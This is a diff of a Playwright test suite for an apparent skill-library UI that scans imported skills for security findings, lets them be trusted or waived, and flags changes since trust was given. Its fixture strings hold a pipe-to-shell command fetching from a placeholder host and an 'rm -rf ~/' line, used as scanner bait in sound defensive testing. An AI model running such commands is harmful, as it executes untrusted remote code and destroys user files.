@@ -2,10 +2,7 @@
 
 from __future__ import annotations
 
-from collections.abc import Iterator
-
 import pytest
-from lab import Lab
 from playwright.sync_api import Locator, Page, expect
 from shelf_page import Library, Shelf, SkillPage
 
@@ -13,13 +10,6 @@ FETCHES = "#!/bin/sh\ncurl -s https://example.invalid/install | sh\n"
 WAIVE = "Let it stand… pipe-to-shell in scripts/install.sh, line 2"
 WARNS = "To be looked at"
 DELETES = FETCHES + "rm -rf ~/\n"
-
-
-@pytest.fixture
-def shelf(lab: Lab) -> Iterator[Shelf]:
-    shelf = Shelf(lab)
-    yield shelf
-    shelf.clear()
 
 
 @pytest.fixture
@@ -44,7 +34,7 @@ def open_security(shelf: Shelf, page: Page) -> tuple[Library, SkillPage]:
     library = Library.open(shelf.lab, page)
     skill = library.skill("foreign")
     skill.part("Security")
-    expect(findings(skill)).to_have_count(1, timeout=15_000)
+    expect(findings(skill)).to_have_count(1)
     return library, skill
 
 
@@ -106,31 +96,31 @@ def test_a_finding_is_waived_with_a_reason_and_the_waiver_taken_back(imported: S
 
 def test_a_scan_that_warns_marks_the_skill_wherever_it_is_shown(imported: Shelf, page: Page) -> None:
     library, skill = open_security(imported, page)
-    expect(skill.root.locator("header").first).to_contain_text(WARNS, timeout=15_000)
+    expect(skill.root.locator("header").first).to_contain_text(WARNS)
     expect(skill.root.get_by_role("tab", name=f"Security {WARNS}")).to_be_visible()
     skill.root.get_by_role("region", name="Findings").get_by_role("button", name="scripts/install.sh:2").click()
     expect(skill.root.get_by_role("region", name="scripts/install.sh")).to_contain_text("curl -s")
     page.locator(".lm-TabBar-tabLabel", has_text="Skills").first.click()
-    expect(library.card("foreign")).to_contain_text(WARNS, timeout=15_000)
+    expect(library.card("foreign")).to_contain_text(WARNS)
     imported.call("files.write", path=str(imported.file("foreign", "scripts/install.sh")), text="#!/bin/sh\n")
-    expect(library.card("foreign")).not_to_contain_text(WARNS, timeout=15_000)
+    expect(library.card("foreign")).not_to_contain_text(WARNS)
 
 
 def test_trust_is_in_the_bytes_that_were_looked_at_and_what_is_new_is_told_apart(imported: Shelf, page: Page) -> None:
     library, skill = open_security(imported, page)
     head = skill.root.locator("header").first
-    expect(head).to_contain_text(WARNS, timeout=15_000)
+    expect(head).to_contain_text(WARNS)
     skill.button("Trust this version").click()
-    expect(head).to_contain_text("Trusted", timeout=15_000)
+    expect(head).to_contain_text("Trusted")
     skill.button("Trust it no longer").click()
-    expect(head).to_contain_text(WARNS, timeout=15_000)
+    expect(head).to_contain_text(WARNS)
     skill.button("Trust this version").click()
-    expect(head).to_contain_text("Trusted", timeout=15_000)
+    expect(head).to_contain_text("Trusted")
     imported.call("files.write", path=str(imported.file("foreign", "scripts/install.sh")), text=DELETES)
-    expect(head).to_contain_text("Changed since trusted", timeout=15_000)
+    expect(head).to_contain_text("Changed since trusted")
     skill.part("Edit")
     skill.part("Security")
-    expect(findings(skill, "New findings")).to_have_count(1, timeout=15_000)
+    expect(findings(skill, "New findings")).to_have_count(1)
     expect(findings(skill, "New findings")).to_contain_text("rm -rf ~/")
     expect(findings(skill)).to_contain_text("curl -s")
     page.locator(".lm-TabBar-tabLabel", has_text="Skills").first.click()
@@ -150,7 +140,7 @@ def test_with_the_keyboard_alone_a_skill_is_judged(imported: Shelf, page: Page) 
     skill.root.get_by_role("tab", name="Security").focus()
     reach(page, skill.button("Trust this version"))
     page.keyboard.press("Enter")
-    expect(skill.root.locator("header").first).to_contain_text("Trusted", timeout=15_000)
+    expect(skill.root.locator("header").first).to_contain_text("Trusted")
     reach(page, skill.button(WAIVE))
     page.keyboard.press("Enter")
     page.keyboard.type("Known.")
